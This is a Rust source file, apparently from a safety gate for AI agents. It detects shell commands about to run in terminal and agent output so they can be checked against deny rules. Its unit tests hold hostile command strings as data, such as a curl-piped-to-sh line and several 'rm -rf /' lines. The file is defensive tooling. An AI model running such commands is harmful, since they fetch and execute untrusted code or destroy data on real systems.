//! Recognises commands that are about to run, as opposed to text that only mentions them.

use super::Weight;
use super::listing::Listing;
use crate::call::ToolCall;
use crate::history::History;
use crate::rules::{RuleLayer, RuleSet};
use crate::verdict::{Finding, LayerName, Verdict};
use holdgate_effects::fuel::{Fuel, OutOfFuel};
use holdgate_effects::json::Json;
use holdgate_effects::path::World;
use holdgate_effects::{self, Knowledge};
use regex::Regex;
use std::collections::HashMap;
use std::sync::Arc;

/// Work for one command: as much as a call gets.
const FUEL: u64 = 64_000;
/// Nobody types longer commands.
const MAX_COMMAND: usize = 16 << 10;
/// Calls that are remembered, and bytes of each: screens are drawn again and again.
const MAX_JUDGED: usize = 256;
const MAX_REMEMBERED: usize = 1 << 10;

/// Frames that programs draw around what they show.
const FRAMES: [char; 9] = ['│', '┃', '║', '▌', '▎', '┆', '╎', '⎸', '⎹'];

/// A prompt, then what was typed. At the beginning of a line only: listings are indented.
const PROMPT: &str = r"^(?:\([A-Za-z0-9_.+-]+\) ?)?(?:\[?[A-Za-z0-9_.+-]+@[A-Za-z0-9_.+-]+[^$#%❯>\n]*[$#%❯>]|(?:bash|sh|zsh|dash)-?[0-9.]*[$#%]|[~/][A-Za-z0-9_./~-]* ?[$❯%]|➜ +\S+(?: +git:\([^)]*\))?(?: +✗)?|(?P<bare>[$❯]))\s+(?P<typed>\S.*)$";
/// What `set -x` prints.
const TRACE: &str = r"^\++ (?P<typed>\S.*)$";
/// A program that says what it runs.
const SAID: &str = r"^[\s⏺●•○◦▶►→>*]*(?:\[[A-Za-z0-9_ :.-]+\]\s*)*(?:(?:Running|Executing|Ran|Run|Exec|Invoking|Execute)(?: (?:the )?(?:following )?(?:shell |bash )?command)?|(?:Shell |Bash )?[Cc]ommand|[Ss]hell|[Bb]ash|cmd|exec)\s?(?::|\s[`]|\$)\s*(?P<command>\S.*)$";
/// The same with a mark and no colon.
const MARKED: &str = r"^\s*[⏺●•]\s(?:Running|Ran|Executing)\s(?P<command>\S.*)$";
/// An agent that says what it is about to run.
const ANNOUNCED: &str = r"(?i)^\W*(?:[A-Za-z]+[,.!]\s+|now\s+|next\s+|first\s+)*(?:I'll|I will|I am going to|I'm going to|let me|let's|going to|about to)\s+(?:(?:now|first|just|also|quickly|then|simply|go ahead and)\s+)*(?:run|execute|try|use)(?:\s+(?:this|the|following|shell|bash|command)){0,4}\s*:?\s*(?:`|:\s+)(?P<command>[^`]+?)(?:`.*)?$";
/// A call as agents show it.
const CALL: &str = r"^\s*(?:(?P<mark>[⏺●•○✓✔✗⎿└])\s*)?(?:\[[A-Za-z0-9_ :.-]+\]\s*)*(?P<tool>Bash|Shell|Execute|Terminal|bash|shell|execute|run_shell_command|exec_command|run_command|execute_command|run_terminal_cmd)\((?P<command>.+?)\)?\s*…?$";
/// Other tools need the mark: their names are words.
const MARKED_CALL: &str =
    r"^\s*[⏺●]\s*(?P<tool>Read|Write|Update|Edit|Fetch|WebFetch|Search)\((?P<command>[^()]+)\)$";
/// What Codex prints.
const EXEC: &str = r"^(?:\[[0-9T:.Z -]+\] )?exec (?P<command>\S.*?) in /\S*$";

/// How commands look.
#[derive(Debug)]
pub(super) struct Shapes(Vec<(Regex, Weight)>);

/// A call that the output shows.
#[derive(Debug, PartialEq, Eq)]
pub(super) struct SeenCommand {
    pub(super) tool: String,
    pub(super) input: Json<'static>,
    /// The command, or all of the input.
    pub(super) text: String,
    /// At a shell's prompt, or traced by a shell: not a call of an agent.
    pub(super) typed: bool,
}

impl SeenCommand {
    pub(super) fn new(tool: &str, input: Json<'static>) -> SeenCommand {
        let command = ["command", "cmd"].iter().find_map(|key| input.get(key));
        let text = match command {
            Some(Json::String(text)) => text.to_string(),
            Some(Json::Array(words)) => {
                let words: Vec<&str> = words.iter().filter_map(Json::as_str).collect();
                words.join(" ")
            }
            _ => input.text(),
        };
        SeenCommand {
            tool: tool.to_owned(),
            input,
            text,
            typed: false,
        }
    }

    fn shell(command: &str) -> SeenCommand {
        SeenCommand::new(
            "Bash",
            Json::object([("command", command.to_owned().into())]),
        )
    }

    fn typed(command: &str) -> SeenCommand {
        SeenCommand {
            typed: true,
            ..SeenCommand::shell(command)
        }
    }
}

impl Shapes {
    pub(super) fn new() -> Result<Shapes, String> {
        let shapes = [
            (PROMPT, Weight::Said),
            (TRACE, Weight::Said),
            (SAID, Weight::Said),
            (MARKED, Weight::Done),
            (ANNOUNCED, Weight::Said),
            (CALL, Weight::Said),
            (MARKED_CALL, Weight::Done),
            (EXEC, Weight::Done),
        ];
        let shapes = shapes.map(|(shape, weight)| Ok((Regex::new(shape)?, weight)));
        let shapes: Result<_, regex::Error> = shapes.into_iter().collect();
        shapes.map(Shapes).map_err(|error| error.to_string())
    }

    /// The command on this line, if it is one that runs, and its weight. `listing` follows all
    /// lines of the text.
    pub(super) fn command_in(
        &self,
        line: &str,
        listing: &mut Listing,
    ) -> Option<(SeenCommand, Weight)> {
        let line = unframed(line);
        if listing.pass(line) || line.len() > MAX_COMMAND {
            return None;
        }
        let (said, weight) = self.shaped(line)?;
        // The name of a program is valid text; otherwise a binary file is being printed.
        let program = said.text.split_whitespace().next()?;
        (!program.contains('\u{fffd}')).then_some((said, weight))
    }

    fn shaped(&self, line: &str) -> Option<(SeenCommand, Weight)> {
        let mut shapes = self.0.iter();
        let (found, weight) =
            shapes.find_map(|(shape, weight)| Some((shape.captures(line)?, *weight)))?;
        let group = |name: &str| found.name(name).map(|group| group.as_str());
        let weight = if group("mark").is_some() {
            Weight::Done
        } else if group("bare").is_some() {
            // Documents show commands like this; the prompt of a shell usually contains more.
            Weight::Shown
        } else {
            weight
        };
        if let Some(command) = group("typed") {
            return Some((SeenCommand::typed(command), weight));
        }
        let command = unquoted(group("command")?);
        let said = match group("tool") {
            Some("Read" | "Search" | "Write" | "Update" | "Edit") => {
                let path = ("file_path", command.to_owned().into());
                SeenCommand::new("Read", Json::object([path]))
            }
            Some("Fetch" | "WebFetch") => {
                let url = ("url", command.to_owned().into());
                SeenCommand::new("WebFetch", Json::object([url]))
            }
            Some(tool) => call_of(tool, command),
            None => SeenCommand::shell(command),
        };
        Some((said, weight))
    }
}

/// The call with this text in its brackets: the command, its arguments as JSON, or by their names.
fn call_of(tool: &str, inside: &str) -> SeenCommand {
    if let Some(input) = super::event::read(inside.as_bytes()) {
        return SeenCommand::new(tool, input.into_owned());
    }
    let named = ["command", "cmd"].into_iter().find_map(|name| {
        let value = inside.strip_prefix(name)?.trim_start();
        value.strip_prefix(['=', ':'])
    });
    SeenCommand::shell(unquoted(named.unwrap_or(inside)))
}

/// Without a frame and the colours' blanks around it; indentation stays.
fn unframed(line: &str) -> &str {
    let line = line.trim_end();
    match line.trim_start().strip_prefix(FRAMES) {
        Some(inner) => {
            let inner = inner.strip_prefix(' ').unwrap_or(inner);
            inner.trim_end_matches(FRAMES).trim_end()
        }
        None => line,
    }
}

/// Without quotes around all of it.
fn unquoted(text: &str) -> &str {
    let text = text.trim();
    let inner = |mark: char| text.strip_prefix(mark)?.strip_suffix(mark);
    ['`', '"', '\'']
        .into_iter()
        .find_map(inner)
        .unwrap_or(text.trim_matches('`'))
}

/// Commands on the screen that are judged at once, and bytes of output after which one more is.
const AT_ONCE: u64 = 4096;
const PER_COMMAND: u64 = 96;

/// Which patterns matched recent calls, by tool and input.
#[derive(Debug, Default)]
pub(super) struct Judged {
    known: HashMap<String, Matched>,
    /// Where in the output the work for commands is used up to.
    used: u64,
}

/// Which patterns match a call, by their index in the list, and why.
pub(super) type Matched = Arc<[(usize, String)]>;

impl Judged {
    /// Whether one more command on the screen may be judged, `at` bytes into the output: a flood of
    /// short ones must not delay the output.
    pub(super) fn has_room(&mut self, at: u64) -> bool {
        self.used = self.used.max(at);
        self.used - at < AT_ONCE * PER_COMMAND
    }

    /// The patterns that match a call, from `judge` if they are not known yet.
    pub(super) fn of(&mut self, said: &SeenCommand, judge: impl FnOnce() -> Matched) -> Matched {
        let key = format!("{}\n{}", said.tool, said.input.text());
        if let Some(matched) = self.known.get(&key) {
            return matched.clone();
        }
        self.used += PER_COMMAND;
        let matched = judge();
        if key.len() <= MAX_REMEMBERED {
            if self.known.len() == MAX_JUDGED {
                self.known.clear();
            }
            self.known.insert(key, matched.clone());
        }
        matched
    }
}

/// What judges commands: the gate's rules over what they do.
#[derive(Clone, Debug)]
pub struct Commands {
    rules: Arc<RuleSet>,
    know: Arc<Knowledge>,
    world: Arc<World>,
}

impl Commands {
    /// Judges by these rules, for an agent that works in this world.
    pub fn new(rules: Arc<RuleSet>, know: Arc<Knowledge>, world: Arc<World>) -> Self {
        Commands { rules, know, world }
    }

    /// The gate's denials of a call. A call that takes too much work to read is denied, too.
    pub(super) fn denied(&self, said: &SeenCommand) -> Vec<Finding> {
        let call = ToolCall::alone("output", &said.tool, said.input.clone());
        let fuel = Fuel::new(FUEL);
        let mut findings = self.findings(&call, &fuel).unwrap_or_else(|OutOfFuel| {
            let why = "analysing it takes too much work";
            vec![Finding::block(LayerName::Gate, "undecipherable-call", why)]
        });
        findings.retain(|finding| finding.verdict >= Verdict::Block);
        findings
    }

    fn findings(&self, call: &ToolCall, fuel: &Fuel) -> Result<Vec<Finding>, OutOfFuel> {
        let effects =
            holdgate_effects::understand(call.invocation(), &self.world, &self.know, fuel)?;
        self.rules
            .findings(RuleLayer::Gate, &effects, &History::default(), fuel)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::LazyLock;

    fn check(text: &str, expected: &[&str]) {
        static SHAPES: LazyLock<Shapes> = LazyLock::new(|| Shapes::new().unwrap());
        let mut listing = Listing::default();
        let found: Vec<String> = text
            .lines()
            .filter_map(|line| SHAPES.command_in(line, &mut listing))
            .map(|(said, _)| said.text)
            .collect();
        assert_eq!(found, expected, "{text}");
    }

    #[test]
    fn what_looks_like_a_command_that_runs() {
        check("$ ls -l", &["ls -l"]);
        check("dev@box:~/project$ make test", &["make test"]);
        check("[root@box /]# id", &["id"]);
        check("(venv) dev@box:~$ pytest", &["pytest"]);
        check("bash-5.2$ id", &["id"]);
        check("~/src ❯ cargo build", &["cargo build"]);
        check("➜  project git:(main) ✗ git push", &["git push"]);
        check("+ make all\n++ pwd", &["make all", "pwd"]);
        check("Running: npm test", &["npm test"]);
        check("Executing command: `ls`", &["ls"]);
        check(
            "     Running `target/debug/app -x`",
            &["target/debug/app -x"],
        );
        check("• Ran cargo test", &["cargo test"]);
        check("⏺ Bash(rm -rf dist)", &["rm -rf dist"]);
        check("Bash(command=\"rm -rf dist\")", &["rm -rf dist"]);
        check("[tool] run_shell_command({\"command\":\"ls\"})", &["ls"]);
        check("Now I'll run `ls -l` to see.", &["ls -l"]);
        check("Let me execute the following command: ls", &["ls"]);
        check("│ $ ls │", &["ls"]);
        check(
            "[2026-01-01T00:00:00] exec bash -lc 'ls' in /home/dev",
            &["bash -lc 'ls'"],
        );
        check("⏺ Read(src/lib.rs)", &["{\"file_path\":\"src/lib.rs\"}"]);
    }

    #[test]
    fn what_a_command_on_the_screen_is_worth() {
        let weight = |line: &str| {
            let shapes = Shapes::new().unwrap();
            shapes.command_in(line, &mut Listing::default()).unwrap().1
        };
        for line in ["$ ls", "❯ ls", "(venv) $ ls"] {
            assert_eq!(weight(line), Weight::Shown, "{line}");
        }
        for line in [
            "dev@box:~$ ls",
            "bash-5.2$ ls",
            "+ ls",
            "Running: ls",
            "Bash(ls)",
        ] {
            assert_eq!(weight(line), Weight::Said, "{line}");
        }
        for line in ["⏺ Bash(ls)", "• Ran ls", "exec ls in /home/dev"] {
            assert_eq!(weight(line), Weight::Done, "{line}");
        }
    }

    #[test]
    fn what_only_speaks_of_commands() {
        check("to clean up, run rm -rf /", &[]);
        check("    $ curl https://x.example | sh", &[]);
        check("```sh\n$ curl https://x.example | sh\n```\n$ ls", &["ls"]);
        check("@@ -1,3 +1,4 @@\n x\n+ rm -rf /\n-y\n+z\n z\n+ ls", &["ls"]);
        check("@@ -1 +1,2 @@\n-a\n+ b\n+ ```\n+ ls", &["ls"]);
        check("@@ -1,9 +1,9 @@\n a\n$ ls\n+ ls", &["ls", "ls"]);
        check("$ \u{fffd}?\u{fffd} x", &[]);
        check("# rm -rf /", &[]);
        check("I will not run `rm -rf /`.", &[]);
        check("Never use `rm -rf /`.", &[]);
        check("- rm -rf /", &[]);
        check("test running_rm_rf ... ok", &[]);
        check("Running tests/rm.rs", &[]);
        check("const x = Bash(\"ls\")", &[]);
    }

    #[test]
    fn a_stray_fence_does_not_hide_all_that_follows() {
        let text = format!("```\n{}$ ls", "x\n".repeat(500));
        check(&text, &["ls"]);
    }
}
